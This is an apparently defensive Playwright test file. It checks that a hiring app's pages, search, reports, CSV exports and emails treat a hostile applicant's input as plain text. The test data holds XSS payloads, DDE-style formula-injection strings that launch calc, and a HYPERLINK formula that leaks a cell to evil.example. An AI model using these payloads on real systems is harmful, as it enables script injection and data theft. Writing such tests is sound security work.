import { randomBytes } from "node:crypto";
import { expect, test, type Page } from "@playwright/test";
import { fillSeedApplication } from "./support/apply";
import { filterBoard, SEED_JOB_PATH, SEED_JOB_TITLE, signIn } from "./support/demo";
import { pdfUpload } from "./support/files";
import { toCsv } from "../lib/domain/csv";
import { reportTables } from "../lib/domain/report-filter";

/**
 * A candidate whose every free-text field is an attack: markup that would run script if rendered as
 * HTML, and spreadsheet formulas that would run if exported raw. They apply through the public form;
 * then every view the hiring team has shows the text as text, no script runs, and CSV cells that
 * could start a formula are neutralised.
 */

const tag = randomBytes(4).toString("hex");
const hostile = {
  firstName: `<img src=x onerror="window.__xss='first';alert(1)">`,
  lastName: `Tester-${tag} </script><script>window.__xss='last';alert(2)</script>`,
  email: `hostile.${tag}@example.org`,
  phone: "+1 (555) 010-2000",
  location: `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
  linkedinUrl: `https://www.linkedin.com/in/x"><svg/onload=window.__xss='linkedin'>`,
  websiteUrl: `https://example.org/'onmouseover='window.__xss=1'<b>`,
  coverLetter: `-2+3+cmd|' /C calc'!A0\n<script>window.__xss='cover';alert(3)</script>\n<a href="javascript:window.__xss='link'">click</a>`,
  evidence: `@SUM(1+1)*cmd|' /C calc'!A0 <iframe srcdoc="<script>parent.__xss='evidence'</script>"></iframe>`,
  resumeName: `=HYPERLINK(A1)&<img src=x onerror=alert(4)>.pdf`,
};
const fullName = `${hostile.firstName} ${hostile.lastName}`;

/** Fails the test on any dialog; checks after each view that no payload ran or became markup. */
async function guard(page: Page) {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return async (view: string) => {
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), `${view}: a payload ran`).toBeUndefined();
    expect(dialogs, `${view}: a dialog opened`).toEqual([]);
    // Escaping, checked apart from the CSP that would also stop the script: no element the payloads describe exists.
    await expect(page.locator('img[src="x"], svg[onload], iframe[srcdoc], [onerror], [onmouseover], a[href^="javascript:" i]'), view).toHaveCount(0);
  };
}

test("a hostile candidate's text is only ever text: pages, search, reports, CSV and email", async ({ page, browser }) => {
  test.setTimeout(120_000);

  // The candidate applies. A javascript: address is refused with a clear message, keeping what was typed.
  const applicant = await browser.newPage();
  const applicantSafe = await guard(applicant);
  await applicant.goto(`${SEED_JOB_PATH}/apply`);
  await fillSeedApplication(applicant, { firstName: hostile.firstName, lastName: hostile.lastName, email: hostile.email });
  await applicant.getByLabel("Resume").setInputFiles(pdfUpload(hostile.resumeName));
  await applicant.getByLabel("Phone").fill(hostile.phone);
  await applicant.getByLabel("Location").fill(hostile.location);
  await applicant.getByLabel("LinkedIn profile").fill("javascript:window.__xss='linkedin'//linkedin.com");
  await applicant.getByLabel("Website or GitHub").fill("javascript:window.__xss='website'");
  await applicant.getByLabel("Cover letter").fill(hostile.coverLetter);
  for (const evidence of await applicant.getByLabel("Evidence").all()) await evidence.fill(hostile.evidence);
  await applicant.getByRole("button", { name: "Submit application" }).click();
  await expect(applicant.getByLabel("Website or GitHub")).toHaveAccessibleDescription(/web address starting with https/);
  await expect(applicant.getByLabel("LinkedIn profile")).toHaveAccessibleDescription(/LinkedIn address/);
  await expect(applicant.getByLabel("First name")).toHaveValue(hostile.firstName);
  await expect(applicant.getByLabel("Cover letter")).toHaveValue(hostile.coverLetter);
  await applicantSafe("apply form with errors");

  await applicant.getByLabel("LinkedIn profile").fill(hostile.linkedinUrl);
  await applicant.getByLabel("Website or GitHub").fill(hostile.websiteUrl);
  await applicant.getByLabel(/I have read the privacy notice/).check();
  await applicant.getByRole("button", { name: "Submit application" }).click();
  await expect(applicant.getByRole("heading", { name: "Application received" })).toBeVisible();
  // The candidate's own status page greets them by (hostile) name.
  await expect(applicant.getByText(hostile.firstName, { exact: false }).first()).toBeVisible();
  await applicantSafe("candidate's status page");

  const safe = await guard(page);
  await signIn(page, "recruiter");

  // The board of the seed requisition.
  await page.getByRole("link", { name: SEED_JOB_TITLE }).first().click();
  await filterBoard(page, `Tester-${tag}`);
  const card = page.getByRole("link", { name: fullName });
  await expect(card.first()).toBeVisible();
  await safe("board");

  // The application page: every field as typed, links only to http(s).
  await card.first().click();
  await page.waitForURL(/\/dashboard\/applications\/[0-9a-f-]{36}$/);
  await expect(page.getByRole("heading", { level: 1, name: fullName })).toBeVisible();
  for (const text of [hostile.location, hostile.phone]) await expect(page.getByText(text).first()).toBeVisible();
  await page.getByText("Cover letter", { exact: true }).click();
  await expect(page.getByText(hostile.coverLetter.split("\n")[1]!).first()).toBeVisible();
  await expect(page.getByText(hostile.evidence).first()).toBeVisible();
  // The resume's name, minus the characters the upload strips (quotes, angle brackets), still as text.
  await expect(page.getByText("=HYPERLINK(A1)&img src=x onerror=alert(4).pdf").first()).toBeVisible();
  const hrefs = await page.locator("main a[href]").evaluateAll((links) => links.map((a) => a.getAttribute("href") ?? ""));
  expect(hrefs.filter((href) => !/^(https?:\/\/|\/|#|mailto:|tel:)/i.test(href))).toEqual([]);
  await safe("application page");

  // A note with markup, as a colleague might paste it, shows as text too.
  const note = `<img src=x onerror="window.__xss='note'"> about ${tag}`;
  await page.getByLabel("Note", { exact: true }).fill(note);
  await page.getByRole("button", { name: "Add note" }).click();
  await expect(page.getByText(note).first()).toBeVisible();
  await safe("application page with a note");
  // For a person to look at: how the hostile text reads on the page the team uses most.
  await page.screenshot({ path: test.info().outputPath("application-page.png"), fullPage: true });

  // Search, with the match highlighted inside the hostile name.
  await page.goto(`/dashboard/candidates?q=${encodeURIComponent(`Tester-${tag}`)}`);
  await expect(page.getByRole("region", { name: "Results" }).getByRole("status")).toHaveText("1 candidate found.");
  await expect(page.getByRole("link", { name: fullName })).toBeVisible();
  await safe("search results");

  // Reports, and every table's CSV: no text cell can start a formula.
  await page.goto("/dashboard/reports");
  await expect(page.getByRole("heading", { name: "Reports", level: 1 })).toBeVisible();
  await safe("reports");
  for (const table of reportTables) {
    const response = await page.request.get(`/dashboard/reports/export?table=${table}`);
    expect(response.status(), table).toBe(200);
    expect(response.headers()["content-disposition"], table).toMatch(/^attachment;/);
    for (const cell of csvCells(await response.text())) {
      if (/^-?\d+(\.\d+)?$/.test(cell)) continue; // our own figures
      expect(cell, `${table}: formula-looking cell`).not.toMatch(/^[=+\-@\t\r]/);
    }
  }

  // The confirmation email in the dev mailbox, shown as plain text.
  const admin = await browser.newPage();
  const adminSafe = await guard(admin);
  await signIn(admin, "admin");
  await expect(async () => {
    await admin.goto("/dashboard/dev/mailbox");
    await expect(admin.getByRole("row", { name: new RegExp(hostile.email) })).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 20_000 });
  await admin.getByRole("row", { name: new RegExp(hostile.email) }).getByRole("link").first().click();
  await expect(admin.locator("pre").filter({ hasText: `Hello ${hostile.firstName},` }).first()).toBeVisible();
  await adminSafe("dev mailbox email");
});

test("the CSV of a hostile value is neutralised, cell by cell", () => {
  // The export's cell rule, through the same module the route uses, on the payloads above.
  const csv = toCsv(["Source"], [[hostile.location], [hostile.coverLetter], [hostile.evidence], ["+1 (555) 010-2000"], ["@SUM(A1)"], ["\t=1+1"]]);
  const cells = csvCells(csv).slice(1);
  expect(cells).toHaveLength(6);
  for (const cell of cells) expect(cell.startsWith("'")).toBe(true);
});

/** RFC 4180 cells, unquoted. */
function csvCells(csv: string): string[] {
  const text = csv.replace(/^\uFEFF/, "");
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      cells.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      cells.push(cell);
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell) cells.push(cell);
  return cells;
}
